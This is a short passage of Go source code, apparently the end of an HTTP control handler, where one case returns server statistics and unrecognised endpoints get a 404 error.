		reply(http.StatusOK, s.Stats())
	default:
		fail(http.StatusNotFound, "unknown control endpoint")
	}
}
